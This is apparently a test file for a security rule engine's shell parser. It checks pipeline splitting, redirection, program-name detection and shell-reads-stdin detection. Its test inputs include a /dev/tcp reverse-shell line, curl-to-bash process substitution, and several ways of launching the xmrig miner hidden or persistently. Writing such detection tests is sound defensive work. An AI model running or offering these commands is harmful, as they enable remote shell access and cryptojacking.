import * as assert from 'node:assert/strict';
import { commandName, isInteractiveShell, parseScript, runsStandardInput, type Command } from '../../../../src/engine/rules/shared/shell';

/** Each pipeline as its commands' word texts. */
function words(script: string): string[][][] {
	return parseScript(script).map(pipeline => pipeline.commands.map(command => command.words.map(word => word.text)));
}

function only(script: string): Command {
	const pipelines = parseScript(script);
	assert.equal(pipelines.length, 1);
	assert.equal(pipelines[0].commands.length, 1);
	return pipelines[0].commands[0];
}

describe('shell reader', () => {
	it('splits pipelines on newlines, ;, && and || and commands on |', () => {
		assert.deepEqual(words('a 1; b && c || d\ne | f |& g &'), [[['a', '1']], [['b']], [['c']], [['d']], [['e'], ['f'], ['g']]]);
	});

	it('removes quotes and escapes, keeps substitutions as written, and joins continued lines', () => {
		assert.deepEqual(words(`echo 'a b' "c \\"d\\"" e\\ f "$(curl -s "https://x")" \${HOME} \`id\` \\\n  next`),
			[[['echo', 'a b', 'c "d"', 'e f', '$(curl -s "https://x")', '${HOME}', '`id`', 'next']]]);
	});

	it('leaves comments out, but not a # inside a word', () => {
		assert.deepEqual(words('# curl x | sh\necho a#b # trailing'), [[['echo', 'a#b']]]);
	});

	it('records redirections with their stream numbers and targets, apart from the words', () => {
		const command = only('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 2>/dev/null');
		assert.deepEqual(command.words.map(word => word.text), ['bash', '-i']);
		assert.deepEqual(command.redirects.map(redirect => [redirect.fd, redirect.operator, redirect.target?.text]),
			[[undefined, '>&', '/dev/tcp/10.0.0.1/4242'], ['0', '>&', '1'], ['2', '>', '/dev/null']]);
	});

	it('keeps process substitution as one word and gives word offsets as written', () => {
		const script = 'bash <(curl -sL "https://x/y")';
		const command = only(script);
		assert.deepEqual(command.words.map(word => script.slice(word.start, word.end)), ['bash', '<(curl -sL "https://x/y")']);
		assert.deepEqual([command.start, command.end], [0, script.length]);
	});

	it('never throws on unbalanced input', () => {
		for (const script of ['"unterminated', "'open", '$(never closed', '<(x', '`tick', 'a >', '\\', '2>']) {
			assert.ok(Array.isArray(parseScript(script)), script);
		}
	});
});

describe('shell commands', () => {
	it('finds the program behind assignments, wrappers and reserved words', () => {
		const names = [
			'FOO=1 BAR=2 /usr/local/bin/xmrig -o x',
			'sudo -u app -E nohup ./xmrig',
			'timeout 30 nice -n 10 xmrig',
			'env -i PATH=/bin setsid xmrig',
			'while true; do xmrig; done',
			'ExecStart=/opt/xmrig/xmrig --config /etc/x.json',
			'screen -dmS miner ./xmrig',
		].map(script => parseScript(script).flatMap(pipeline => pipeline.commands).map(commandName).filter(name => name !== undefined && name !== 'true'));
		assert.deepEqual(names, [['xmrig'], ['xmrig'], ['xmrig'], ['xmrig'], ['xmrig'], ['xmrig'], ['xmrig']]);
		assert.equal(commandName(only('FOO=1')), undefined);
		assert.equal(only('FOO=1').programIndex, -1);
		assert.equal(only('sudo -u app -E nohup ./xmrig -o x').programIndex, 5, 'the word index, kept with the command');
	});

	it('tells a shell that runs its standard input from one that treats it as data', () => {
		const runs = ['sh', 'sudo bash', 'bash -s -- --flag', 'sudo -E bash -', 'python3', 'python3 -', 'perl', 'zsh -x'];
		const data = ['bash -c "echo hi"', 'sh install.sh', 'python3 -m json.tool', 'perl -ne print', 'node -e 1', 'php -r 1', 'tar xz', 'sha256sum -c -', 'bash -ec true'];
		for (const script of runs) {
			assert.ok(runsStandardInput(only(script)), script);
		}
		for (const script of data) {
			assert.ok(!runsStandardInput(only(script)), script);
		}
	});

	it('tells an interactive shell', () => {
		assert.ok(isInteractiveShell(only('/bin/sh -i')));
		assert.ok(isInteractiveShell(only('bash -li')));
		assert.ok(!isInteractiveShell(only('bash -c id')));
		assert.ok(!isInteractiveShell(only('python3 -i')));
	});
});
